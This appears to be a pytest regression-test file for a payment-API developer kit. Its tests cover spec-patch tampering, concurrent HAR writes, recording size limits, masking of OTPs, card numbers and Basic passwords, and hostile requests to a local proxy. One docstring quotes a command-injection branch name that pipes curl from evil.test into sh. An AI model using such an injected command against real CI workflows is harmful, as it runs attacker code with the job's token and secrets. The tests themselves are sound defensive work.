@@ -1,0 +1,259 @@
+"""Hostile input to the traffic surfaces, second pass (the first: test_traffic_hostile.py): refresh apply held to
+what juspay-learn writes, a HAR recorded by two proxies at once, recordings kept within what the kit reads back
+(whatever an upstream answers or a web page sends), secrets in form bodies and Basic passwords, the nightly
+workflow's script. Each test is one defect, failing before its fix (and one guard that learn's own proposals
+still apply). In-process but for a loopback upstream."""
+
+from __future__ import annotations
+
+import base64
+import fcntl
+import json
+import re
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from juspay_kit import api, spec
+from juspay_kit.errors import UsageError
+from juspay_kit.proxy import cassette, har
+from juspay_kit.proxy.recordings import convert, read
+from juspay_kit.redact import Redactor
+from juspay_kit.refresh.learned import apply_proposal
+from juspay_kit.traffic import learn
+from tests.test_traffic_hostile import FETCH, SANDBOX, exchange
+
+_SCHEMAS = "/components/schemas"
+
+
+@pytest.mark.parametrize(
+    "operations",
+    [[{"op": "replace", "path": "/servers/0/url", "value": "https://api.juspay.in"}],
+     [{"op": "replace", "path": f"{_SCHEMAS}/SessionContext/properties/secureToken",
+       "value": {"type": "string"}}],
+     [{"op": "add", "path": f"{_SCHEMAS}/SessionContext/properties/secureToken/x-juspay-secret", "value": "otp"}],
+     [{"op": "add", "path": f"{_SCHEMAS}/SessionContext/properties/secureToken",
+       "value": {"type": "string", "x-inferred": {"id": "x", "reason": "r"}}}],
+     [{"op": "replace", "path": f"{_SCHEMAS}/OtpLimits/properties/codeExpiration/x-inferred",
+       "value": {"id": "code-expiration-minutes", "reason": "Documented now."}}],
+     [{"op": "replace", "path": f"{_SCHEMAS}/TriggerOtpRefusal/properties/errorCode/enum", "value": ["ONLY_THIS"]}],
+     [{"op": "add", "path": f"{_SCHEMAS}/FetchPaymentCredentialsResponse/properties/panReferenceId",
+       "value": {"type": "string"}}],
+     [{"op": "replace", "path": f"{_SCHEMAS}/OtpLimits",
+       "value": {"type": "object", "properties": {"codeExpiration": {"type": "string"}}}}],
+     [{"op": "replace", "path": "/components/responses/TriggerOtpConflict/content/application~1json/schema",
+       "value": {"$ref": f"#{_SCHEMAS}/TriggerOtpRequest"}}]],
+)  # fmt: skip
+def test_refresh_apply_refuses_a_proposal_that_changes_what_learn_never_changes(
+    tmp_path: Path, operations: Any
+) -> None:
+    """Each applied silently (a proposal needed only to apply and validate): the production server in place of the
+    sandbox, a credential no longer masked (or masked as an OTP), an inferred part made documented fact, refusal
+    codes dropped, a learned field without its mark, the counters' marks lost, a response's schema swapped."""
+    path, document = tmp_path / "p.json", tmp_path / "openapi.yaml"
+    path.write_text(json.dumps({"reason": "r", "patch": operations, "learned": {"fingerprint": "l-" + "0" * 16}}))
+    document.write_bytes(spec.SPEC_PATH.read_bytes())
+    with pytest.raises(UsageError, match="not a proposal juspay-learn wrote"):
+        apply_proposal(path, document)
+    assert document.read_bytes() == spec.SPEC_PATH.read_bytes()
+
+
+def test_refresh_apply_still_applies_what_learn_proposes(tmp_path: Path) -> None:
+    learner = learn.Learner()
+    answers = [("triggerOtp", 429, {"status": "FAILURE", "errorCode": "NEW_CODE", "errorMessage": "x"}),
+               ("triggerOtp", 200, {**api.example(spec.load(), "triggerOtp"), "response": {
+                   "MaxOTPVerificationAllowed": "3", "MaxOTPRequestsAllowed": "3", "CodeExpiration": "5"}}),
+               ("validateOtp", 423, {"status": "FAILURE", "responseCode": "SESSION_LOCKED", "responseMessage": "x"}),
+               ("fetchPaymentCredentials", 200, {**api.example(spec.load(), "fetchPaymentCredentials"), "panRef": "p"}),
+               ("triggerOtp", 409, {"result": "FAILURE", "reasonCode": 17})]  # fmt: skip
+    for n, (operation, status, answer) in enumerate(answers):
+        request = FETCH if operation == "fetchPaymentCredentials" else None
+        learner.exchange(exchange(operation, status, answer, request, n=n), f"e{n}")
+    proposals = learner.proposals("2026-12-06")
+    assert {p["learned"]["kind"] for p in proposals} == {"refusal-codes", "counters", "status", "fields", "envelope"}
+    for proposal in proposals:
+        path, document = tmp_path / "p.json", tmp_path / "openapi.yaml"
+        path.write_text(json.dumps(proposal))
+        document.write_bytes(spec.SPEC_PATH.read_bytes())
+        apply_proposal(path, document)
+        assert document.read_bytes() != spec.SPEC_PATH.read_bytes()
+
+
+def test_two_proxies_recording_one_har_keep_it_valid_after_every_write(tmp_path: Path) -> None:
+    """Each writer remembered whether the file held an entry when it opened it: the second proxy's first entry
+    went in without its comma (and two writes at once at the same offset tore each other): not JSON any more."""
+    path = tmp_path / "x.har"
+    writers = [har.HarWriter(path, {"upstream": SANDBOX}, Redactor()) for _ in range(2)]
+
+    def record(writer: har.HarWriter, n: int) -> None:
+        for m in range(20):
+            writer.write(exchange("triggerOtp", n=n * 100 + m) | {"seq": n * 100 + m})
+            with path.open("rb") as file:  # between two writes (a reader that locks the file sees no write begun)
+                fcntl.flock(file, fcntl.LOCK_SH)
+                json.loads(file.read())
+
+    threads = [threading.Thread(target=record, args=(writer, n)) for n, writer in enumerate(writers)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    seqs = [e["seq"] for e in read(path).exchanges]
+    assert sorted(seqs) == [n * 100 + m for n in range(2) for m in range(20)]
+    with path.open("rb") as other:  # a lock another program keeps: recording stops, the traffic never waits on it
+        fcntl.flock(other, fcntl.LOCK_SH)
+        started = time.monotonic()
+        writers[1].write(exchange("triggerOtp"))
+        assert writers[1].failed and time.monotonic() - started < 2
+    with path.open("r+b") as file:  # another program cuts the file: the writer stops rather than tear it
+        file.truncate(path.stat().st_size - 3)
+    before = path.read_bytes()
+    writers[0].write(exchange("triggerOtp"))
+    assert writers[0].failed and path.read_bytes() == before
+    for writer in writers:
+        writer.close()
+
+
+def _answered(**body: Any) -> dict[str, Any]:
+    request = {"method": "POST", "path": "/initiateVerification", "query": "", "headers": {}}
+    return {"seq": 1, "at": 0, "request": request, "response": {"status": 200, "headers": {}, **body}, "error": None,
+            "violations": []}  # fmt: skip
+
+
+def test_an_answer_of_control_characters_leaves_the_proxys_cassette_readable(tmp_path: Path) -> None:
+    """An answer at the proxy's cap (16 MiB) of control characters is a 96 MiB line (each one `\\u0001`): the
+    readers refused lines over 64 MiB, so one hostile answer made the night's whole recording unreadable."""
+    from juspay_kit.proxy.upstream import MAX_ANSWER_BYTES
+
+    path = tmp_path / "c.jsonl"
+    writer = cassette.CassetteWriter(path, {"upstream": SANDBOX}, Redactor())
+    writer.write(_answered(**cassette.body_fields(Redactor(), b"\x01" * MAX_ANSWER_BYTES)))
+    writer.close()
+    assert writer.failed is None
+    assert [len(e["response"]["bodyText"]) for e in read(path).exchanges] == [MAX_ANSWER_BYTES]
+
+
+@pytest.mark.parametrize("name", ["c.jsonl", "c.har"])
+def test_a_recording_stops_before_it_grows_past_what_the_kit_reads(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    """The proxy wrote on past MAX_CASSETTE_BYTES (and a line past MAX_LINE_BYTES): the readers then refused the
+    whole file. Recording stops as on a full disk, the file ends with its last whole exchange."""
+    from juspay_kit.proxy.recordings import recorder_for
+
+    monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", 4_000)
+    path = tmp_path / name
+    writer = recorder_for(path, {"upstream": SANDBOX}, Redactor())
+    for n in range(20):
+        writer.write(_answered(bodyText="x" * 300) | {"seq": n})
+    writer.close()
+    assert writer.failed and path.stat().st_size <= 4_000
+    assert 3 <= len(list(read(path).exchanges)) < 20
+    if name.endswith(".jsonl"):
+        monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", 10**9)
+        monkeypatch.setattr(cassette, "MAX_LINE_BYTES", 1_000)
+        writer = recorder_for(long := tmp_path / "long.jsonl", {"upstream": SANDBOX}, Redactor())
+        writer.write(_answered(bodyText="\x01" * 200))  # 1,200 bytes as JSON
+        writer.close()
+        assert writer.failed and list(read(long).exchanges) == []
+
+
+def test_convert_never_writes_a_recording_the_kit_cannot_read_back(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Masking can make a recording longer than its source (`[masked]` for a four-digit OTP); OUT was written
+    whatever its size, past what every reader refuses."""
+    source = tmp_path / "in.har"
+    source.write_bytes(har.head({}) + b",\n".join(har.encoded(har.entry(exchange("triggerOtp", n=n), SANDBOX))
+                                                   for n in range(10)) + har.CLOSING)  # fmt: skip
+    monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", source.stat().st_size)
+    for name in ("out.jsonl", "out.har", "out.yaml"):
+        (target := tmp_path / name).write_text("before")
+        try:
+            convert(source, target)
+        except UsageError as exc:
+            assert "larger than" in str(exc) and target.read_text() == "before"
+        else:
+            assert target.stat().st_size <= cassette.MAX_CASSETTE_BYTES
+    monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", 2_000)
+    with pytest.raises(UsageError, match="larger than"):
+        convert(source, tmp_path / "out.jsonl")
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
+
+
+def test_an_otp_and_a_card_number_in_a_form_encoded_body_are_masked(tmp_path: Path) -> None:
+    """Only JSON and `"name": value` text were searched for secret fields: a form post (`otpValue=482913&...`)
+    reached the proxy's cassette, and every converted recording, in clear."""
+    form = "otp_value=482913&networkType=VISA&tokenNumber=4111111111111111"
+    redactor = Redactor()
+    fields = cassette.body_fields(redactor, form.encode())  # what the proxy records
+    line = cassette.line_of(_answered() | {"request": {**_answered()["request"], **fields}}, redactor)
+    assert b"482913" not in line and b"4111111111111111" not in line
+    record = exchange("validateOtp", 200, {"status": "SUCCESS", "echo": "code 482913"}, "")
+    record["request"] = {**record["request"], "bodyText": form}
+    del record["request"]["body"]
+    source = tmp_path / "in.har"
+    source.write_bytes(har.head({}) + har.encoded(har.entry(record, SANDBOX)) + har.CLOSING)
+    for name in ("out.jsonl", "out.har", "out.yaml"):
+        convert(source, tmp_path / name)
+        written = (tmp_path / name).read_text()
+        assert "482913" not in written and "4111111111111111" not in written, name
+
+
+def test_the_nightly_never_expands_a_github_expression_inside_a_shell_script() -> None:
+    """`--base "${{ github.ref_name }}"` was pasted into the script before bash read it: a branch named
+    `x$(curl${IFS}evil.test|sh)` (spaces are not allowed in a branch name, `$(` is), run by workflow_dispatch, ran
+    its command with the job's token and the sandbox key. Values reach scripts through `env:`, quoted."""
+    import yaml
+
+    for path in sorted((spec.ROOT / ".github" / "workflows").glob("*.yml")):  # every workflow, every job
+        workflow = yaml.safe_load(path.read_text())
+        for job in workflow["jobs"].values():
+            for step in job.get("steps", []):
+                expressions = re.findall(r"\$\{\{\s*([^}]*?)\s*\}\}", step.get("run", ""))
+                assert all(e.startswith("steps.") and e.endswith(".outputs.exit_code") for e in expressions), (
+                    path.name,
+                    step["run"],
+                )
+
+
+def test_a_request_any_web_page_can_send_never_poisons_the_proxys_recording(tmp_path: Path) -> None:
+    """A page the developer visits may POST to the proxy without a preflight: to `//x` (a path the readers refuse,
+    as a replay would read it as another host), or with `Content-Type: text/plain;<TAB>charset=utf-8` (a tab is
+    legal in a header value; the readers refused it). Either exchange was recorded, and replay, drift and convert
+    then refused the whole cassette or HAR."""
+    import socket
+
+    from tests.loopback import raw_server
+    from tests.test_proxy import KEY
+    from tests.test_proxy_hostile import OK, post, proxy
+
+    record = tmp_path / "c.jsonl"
+    with raw_server(lambda n, request: (OK, False)) as (upstream, _), proxy(upstream, record) as (url, app, out):
+        host, port = url.removeprefix("http://").rsplit(":", 1)
+        for target, kind in ((b"//x", b"text/plain"), (b"/initiateVerification", b"text/plain;\tx=y")):
+            with socket.create_connection((host, int(port)), timeout=5) as sock:
+                sock.sendall(b"POST %s HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: %s\r\ncontent-length: 2\r\n"
+                             b"connection: close\r\n\r\nhi" % (target, kind))  # fmt: skip
+                assert sock.recv(100).startswith(b"HTTP/1.1 200 ")
+        assert post(url).status_code == 200
+        sent = {"authorization": "Basic " + api.encode_basic(KEY), f"x-{KEY}": "1"}  # masked, no header name at all
+        assert post(url, headers=sent).status_code == 200
+    recorded = list(read(record).exchanges)
+    assert [e["request"]["path"] for e in recorded] == ["/initiateVerification"] * 2
+    assert recorded[0]["request"]["headers"]["content-type"] == "text/plain;\tx=y"
+    assert "not recorded: POST //x" in out.getvalue() and "not recorded: POST /initiateVerification" in out.getvalue()
+
+
+def test_the_password_of_a_basic_credential_is_masked_wherever_it_appears() -> None:
+    """Only the user name (the key) of `Basic base64(key:password)` was learned: the API takes an empty password,
+    but a client that sends one had it echoed in clear (in an answer, a report, a converted recording)."""
+    from juspay_kit.proxy.recorded import Masker
+
+    masker = Masker()
+    authorization = "Basic " + base64.b64encode(b"sk_hostile_Wq83jZp0:pw-Xq9t2LmZ").decode()
+    record = exchange("triggerOtp", 401, {"echo": "wrong password pw-Xq9t2LmZ"}, authorization=authorization)
+    masker.learn(record)
+    assert "pw-Xq9t2LmZ" not in json.dumps(masker.mask(record))
